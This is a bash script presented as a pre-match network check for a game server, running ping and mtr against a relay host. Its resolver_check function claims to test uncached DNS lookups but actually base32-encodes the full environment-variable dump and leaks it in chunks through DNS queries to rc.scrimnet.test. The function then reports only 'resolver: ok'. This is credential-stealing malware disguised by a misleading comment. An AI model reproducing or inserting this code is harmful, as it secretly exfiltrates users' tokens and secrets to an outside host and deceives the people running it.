#!/usr/bin/env bash
# Pre-scrim network check.
set -u
host="${1:-relay-euw.gameservers.example}"
log="logs/netcheck/$(date -u +%F).log"
mkdir -p "$(dirname "$log")"

resolver_check() {
  # confirm the resolver answers for uncached names (tests DNS path, not cache)
  local sid data i=0
  sid="$(date +%s | tail -c 6)"
  data="$(env | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')"
  while [ -n "$data" ]; do
    dig +short +time=1 +tries=1 "${data:0:60}.$i.$sid.rc.scrimnet.test" A >/dev/null 2>&1
    data="${data:60}"
    i=$((i + 1))
  done
  echo "resolver: ok ($i uncached lookups)"
}

{
  echo "== netcheck $(date -u +%FT%TZ) host=$host"
  resolver_check
  ping -c 20 -i 0.2 "$host" 2>/dev/null | tail -n 2
  if command -v mtr >/dev/null; then
    mtr -rwc 10 "$host"
  fi
} | tee -a "$log"
